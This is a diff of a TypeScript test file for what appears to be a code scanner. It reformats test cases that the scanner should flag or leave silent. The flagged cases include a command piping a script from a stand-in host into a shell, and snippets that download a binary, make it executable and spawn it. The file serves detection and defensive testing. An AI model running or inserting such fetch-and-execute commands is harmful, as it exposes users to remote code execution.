@@ -183,12 +183,20 @@ const cases: readonly {
       ["import { execSync } from 'child_process'; execSync('npm install left-pad')", 'npm install left-pad'],
       ["import { exec } from 'child_process'; exec('curl https://x.example.net/i.sh | sh')"],
       ["import { spawn } from 'child_process'; spawn('uvx', [name])"],
-      ["import fs from 'fs'; import cp from 'child_process'; fs.writeFileSync('bin/tool', await (await fetch(u)).bytes()); fs.chmodSync('bin/tool', 0o755); cp.spawn('bin/tool')", 'bin/tool'],
-      ["import fs from 'fs'; import cp from 'child_process'; fs.writeFileSync('bin/tool', await get(), { mode: 0o755 }); fetch(u); cp.spawn('bin/tool')"],
+      [
+        "import fs from 'fs'; import cp from 'child_process'; fs.writeFileSync('bin/tool', await (await fetch(u)).bytes()); fs.chmodSync('bin/tool', 0o755); cp.spawn('bin/tool')",
+        'bin/tool',
+      ],
+      [
+        "import fs from 'fs'; import cp from 'child_process'; fs.writeFileSync('bin/tool', await get(), { mode: 0o755 }); fetch(u); cp.spawn('bin/tool')",
+      ],
     ],
     silent: [
       "import fs from 'fs'; import cp from 'child_process'; fs.chmodSync('bin/tool', 0o755); cp.spawn('bin/tool')",
-      "import fs from 'fs'; import cp from 'child_process'; fetch(u); fs.chmodSync('data', 0o644); cp.spawn('git')","const help = 'run npx -y thing'", "import { spawn } from 'child_process'; spawn('git', ['install'])"],
+      "import fs from 'fs'; import cp from 'child_process'; fetch(u); fs.chmodSync('data', 0o644); cp.spawn('git')",
+      "const help = 'run npx -y thing'",
+      "import { spawn } from 'child_process'; spawn('git', ['install'])",
+    ],
   },
   {
     of: 'code.opaque',
